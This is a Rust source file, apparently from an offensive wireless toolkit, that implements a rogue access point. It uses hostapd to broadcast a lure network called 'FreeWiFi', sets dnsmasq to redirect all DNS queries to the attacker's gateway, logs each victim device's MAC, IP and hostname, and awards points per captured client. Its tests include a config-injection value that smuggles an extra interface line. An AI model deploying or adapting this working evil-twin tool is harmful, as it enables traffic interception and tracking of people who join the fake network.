//! Rogue access point: hostapd, plus dnsmasq for DHCP/DNS when it is installed.

use std::collections::HashSet;
use std::time::Duration;

use serde_json::{json, Value};
use tracing::debug;

use pwrlvl_core::{EventLevel, ProcessSpec};
use pwrlvl_protocols::{LeaseParser, OutputParser};

use super::{path_arg, ScratchFile};
use crate::context::OperationContext;
use crate::error::OperationError;
use crate::operation::Operation;
use crate::params::Params;
use crate::settings::EngineSettings;

pub const GATEWAY_IP: &str = "192.168.69.1";
const DHCP_RANGE: &str = "192.168.69.10,192.168.69.100,12h";
const WATCH: Duration = Duration::from_secs(3);

pub struct RogueAp;

impl Operation for RogueAp {
    fn name(&self) -> &'static str {
        "rogueap"
    }

    fn prepare(&self, raw: &Params, settings: &EngineSettings) -> Result<Params, OperationError> {
        let ssid = raw.text_or("ssid", "FreeWiFi");
        if ssid.len() > 32 || ssid.chars().any(char::is_control) {
            return Err(OperationError::InvalidParams(format!("invalid ssid: {ssid}")));
        }
        let password = raw.raw_text("password").unwrap_or_default();
        if !password.is_empty() && !(8..=63).contains(&password.len()) {
            return Err(OperationError::InvalidParams(
                "password must be 8 to 63 characters".into(),
            ));
        }
        if password.chars().any(char::is_control) {
            return Err(OperationError::InvalidParams("invalid password".into()));
        }
        Ok(Params::new()
            .with("ssid", ssid)
            .with("channel", raw.number_or("channel", 6)?)
            .with("iface", raw.interface_or("iface", &settings.default_ap_iface)?)
            .with("password", password))
    }

    fn accepted(&self, params: &Params) -> String {
        format!("Rogue AP \"{}\" starting...", params.text_or("ssid", ""))
    }

    fn start_event(&self, params: &Params) -> (EventLevel, String) {
        (
            EventLevel::RogueAp,
            format!(
                "Starting rogue AP \"{}\" ch{} on {}",
                params.text_or("ssid", ""),
                params.text_or("channel", "6"),
                params.text_or("iface", "")
            ),
        )
    }

    fn error_label(&self) -> &'static str {
        "Rogue AP"
    }

    fn run(&self, ctx: &OperationContext, params: &Params) -> Result<(), OperationError> {
        let ssid = params.text_or("ssid", "FreeWiFi");
        let channel = params.number_or("channel", 6)?;
        let iface = params.text_or("iface", &ctx.settings().default_ap_iface);
        let password = params.raw_text("password").unwrap_or_default();

        ctx.award(10, "rogue AP");
        ctx.set_field("ssid", ssid.as_str());
        ctx.set_result(json!([]));

        let hostapd_bin = ctx.require(&["hostapd"])?;
        ctx.set_monitor(&iface, false);
        ctx.sleep(Duration::from_millis(500));

        let hostapd_conf = ScratchFile::write(
            ctx.settings().scratch("pwrlvl_hostapd.conf"),
            &hostapd_config(&iface, &ssid, channel, &password),
        )?;
        let cidr = format!("{GATEWAY_IP}/24");
        ctx.run_short("ip", &["addr", "flush", "dev", iface.as_str()]);
        ctx.run_short("ip", &["addr", "add", cidr.as_str(), "dev", iface.as_str()]);
        ctx.run_short("ip", &["link", "set", iface.as_str(), "up"]);

        let hostapd = ctx.spawn(
            Some("hostapd"),
            ProcessSpec::new(hostapd_bin)
                .arg(path_arg(hostapd_conf.path()))
                .capture_lines(),
        )?;
        let output = hostapd.take_lines();
        ctx.ensure_running()?;
        ctx.sleep(Duration::from_secs(2));
        if !hostapd.is_running() {
            let output = output
                .map(|lines| lines.drain().join(" "))
                .unwrap_or_default();
            let output: String = output.chars().take(200).collect();
            return Err(OperationError::ProcessFailure(format!(
                "hostapd exited immediately: {output}"
            )));
        }

        let leases = ScratchFile::claim(ctx.settings().scratch("pwrlvl_dnsmasq_ra.leases"));
        let _dnsmasq_conf = match ctx.locate(&["dnsmasq"]) {
            Some(dnsmasq) => {
                let conf = ScratchFile::write(
                    ctx.settings().scratch("pwrlvl_dnsmasq_ra.conf"),
                    &dnsmasq_config(&iface, &path_arg(leases.path())),
                )?;
                // -k keeps dnsmasq in the foreground so its handle stays the process we stop
                let spec = ProcessSpec::new(dnsmasq).args(["-k", "-C"]).arg(path_arg(conf.path()));
                if let Err(e) = ctx.spawn(Some("dnsmasq"), spec) {
                    ctx.publish(EventLevel::Warn, format!("dnsmasq failed: {e}"));
                }
                Some(conf)
            }
            None => None,
        };

        let encryption = if password.is_empty() {
            "OPEN".to_string()
        } else {
            format!("WPA2 pw={password}")
        };
        ctx.publish(
            EventLevel::RogueAp,
            format!("\"{ssid}\" ONLINE  {iface} @ {GATEWAY_IP}  [{encryption}]"),
        );

        let parser = LeaseParser::new();
        let mut seen = HashSet::new();
        while ctx.is_running() {
            if !hostapd.is_running() {
                ctx.publish(EventLevel::Warn, "hostapd stopped unexpectedly");
                break;
            }
            for line in output.iter().flat_map(|lines| lines.drain()) {
                debug!(line = %line, "hostapd");
            }
            for lease in parser.parse_file(leases.path()).unwrap_or_default() {
                if !seen.insert(lease.mac.clone()) {
                    continue;
                }
                ctx.award(20, "rogue AP client connected");
                let client = json!(lease);
                ctx.publish_with(
                    EventLevel::RogueAp,
                    format!("Client: {}  {}  {}", lease.mac, lease.ip, lease.hostname),
                    client.clone(),
                );
                ctx.update_result(|result| match result {
                    Value::Array(clients) => clients.push(client),
                    other => *other = json!([client]),
                });
            }
            if !ctx.sleep(WATCH) {
                break;
            }
        }

        ctx.finish(Some("dnsmasq"));
        ctx.finish(Some("hostapd"));
        ctx.publish(EventLevel::RogueAp, format!("Rogue AP \"{ssid}\" stopped"));
        Ok(())
    }
}

fn hostapd_config(iface: &str, ssid: &str, channel: u64, password: &str) -> String {
    let mut conf = format!(
        "interface={iface}\ndriver=nl80211\nssid={ssid}\nhw_mode=g\nchannel={channel}\nignore_broadcast_ssid=0\n"
    );
    if !password.is_empty() {
        conf.push_str(&format!(
            "wpa=2\nwpa_passphrase={password}\nwpa_key_mgmt=WPA-PSK\nrsn_pairwise=CCMP\n"
        ));
    }
    conf
}

fn dnsmasq_config(iface: &str, lease_file: &str) -> String {
    format!(
        "interface={iface}\nbind-interfaces\ndhcp-range={DHCP_RANGE}\n\
         dhcp-option=3,{GATEWAY_IP}\ndhcp-option=6,{GATEWAY_IP}\n\
         address=/#/{GATEWAY_IP}\nno-resolv\ndhcp-leasefile={lease_file}\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn open_network_config() {
        let conf = hostapd_config("wlan1", "FreeWiFi", 6, "");
        assert!(conf.contains("ssid=FreeWiFi\n"));
        assert!(conf.contains("channel=6\n"));
        assert!(!conf.contains("wpa="));
    }

    #[test]
    fn protected_network_config() {
        let conf = hostapd_config("wlan1", "Cafe", 11, "hunter2hunter2");
        assert!(conf.contains("wpa=2\nwpa_passphrase=hunter2hunter2\n"));
    }

    #[test]
    fn dnsmasq_points_everything_at_gateway() {
        let conf = dnsmasq_config("wlan1", "/tmp/leases");
        assert!(conf.contains("address=/#/192.168.69.1\n"));
        assert!(conf.contains("dhcp-leasefile=/tmp/leases\n"));
    }

    #[test]
    fn rejects_config_injection() {
        let settings = EngineSettings::default();
        let raw = Params::from_value(json!({"ssid": "x\ninterface=eth0"}));
        assert!(RogueAp.prepare(&raw, &settings).is_err());

        let raw = Params::from_value(json!({"password": "short"}));
        assert!(RogueAp.prepare(&raw, &settings).is_err());

        let params = RogueAp.prepare(&Params::new(), &settings).unwrap();
        assert_eq!(params.text("iface").as_deref(), Some("wlan1"));
        assert_eq!(RogueAp.accepted(&params), "Rogue AP \"FreeWiFi\" starting...");
    }
}
